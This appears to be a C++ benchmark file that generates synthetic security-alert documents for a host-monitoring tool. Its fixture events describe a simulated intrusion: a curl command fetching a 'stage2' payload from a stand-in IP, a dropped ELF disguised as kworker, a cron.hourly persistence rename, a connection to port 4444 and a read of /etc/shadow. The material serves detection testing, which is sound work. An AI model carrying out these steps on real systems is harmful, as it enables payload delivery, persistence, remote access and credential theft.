#include "bench/documents.h"

#include "host/lib/alert.h"

namespace {

constexpr const char* kProcessKeys[] = {"ObjectPid",  "ObjectTid",  "ObjectImage", "ObjectCmd",    "ObjectCreateTime",
                                        "ObjectUser", "ObjectGuid", "ObjectMd5",   "ObjectSha256", "DecodedObjectCmd"};
constexpr const char* kCreateKeys[] = {"FileType", "FilePath"};
constexpr const char* kRenameKeys[] = {"FileType", "OldFilePath", "NewFilePath"};
constexpr const char* kConnectKeys[] = {"DstPort", "SrcPort", "DstIp", "Protocol", "SrcIp"};
constexpr const char* kOpenKeys[] = {"FilePath", "FileType"};

struct EventKind {
    unsigned type;
    std::span<const char* const> keys;
    const char* object;  // members of the object, as JSON
};
constexpr EventKind kKinds[kKindCount] = {
    {1, kProcessKeys,
     R"("ObjectPid":4711,"ObjectTid":4711,"ObjectImage":"/usr/bin/curl","ObjectCmd":"curl -fsSL http://198.51.100.9/stage2 -o /tmp/.x",)"
     R"("ObjectCreateTime":1715000002000,"ObjectUser":"root","ObjectGuid":"6f1b2c3d-0000-4000-8000-000000000002",)"
     R"("ObjectMd5":"9e107d9d372bb6826bd81d3542a419d6","ObjectSha256":"d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",)"
     R"("DecodedObjectCmd":"curl -fsSL http://198.51.100.9/stage2 -o /tmp/.x")"},
    {6, kCreateKeys, R"("FileType":"elf","FilePath":"/tmp/.x/kworker")"},
    {8, kRenameKeys, R"("FileType":"script","OldFilePath":"/tmp/.x/job","NewFilePath":"/etc/cron.hourly/job")"},
    {14, kConnectKeys,
     R"("DstPort":4444,"SrcPort":50022,"DstIp":"198.51.100.9","Protocol":"tcp","SrcIp":"192.0.2.10")"},
    {26, kOpenKeys, R"("FilePath":"/etc/shadow","FileType":"text")"},
};

constexpr const char* kSubject =
    R"("LoginName":"deploy","SshIp":"192.0.2.7","SubjectMd5":"9e107d9d372bb6826bd81d3542a419d6",)"
    R"("SubjectSha256":"d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592","Highlight":["/tmp/.x"],)";
constexpr const char* kRule =
    R"("internal_id":"lnx-17","tags":["linux","shell"],"risk_tag":"execution","confidence":80)";

zelhost::AlertEvent event(int index) {
    const EventKind& kind = kKinds[index % kKindCount];
    const int number = 100000 + index;
    return {.type = static_cast<int>(kind.type),
            .pid = 2311,
            .image = "/usr/bin/bash",
            .keys = std::string(kSubject) + kind.object,
            .op_time = 1715000000000 + number,
            .command = "bash -c /tmp/.x/job " + std::to_string(number),
            .guid = "6f1b2c3d-0000-4000-8000-000000000001"};
}

}  // namespace

std::span<const char* const> object_keys(unsigned type) {
    for (const EventKind& kind : kKinds)
        if (kind.type == type) return kind.keys;
    return {};
}

std::string make_document(int events) {
    zelhost::Alert alert{.rules = {}, .level = "High", .details = false};
    for (int index = 0; index < events; ++index) {
        if (index % kRuleEvents == 0)
            alert.rules.push_back(
                {.id = "R-" + std::to_string(1000 + index / kRuleEvents), .events = {}, .keys = kRule, .score = 8});
        alert.rules.back().events.push_back(event(index));
    }
    return alert.text();
}
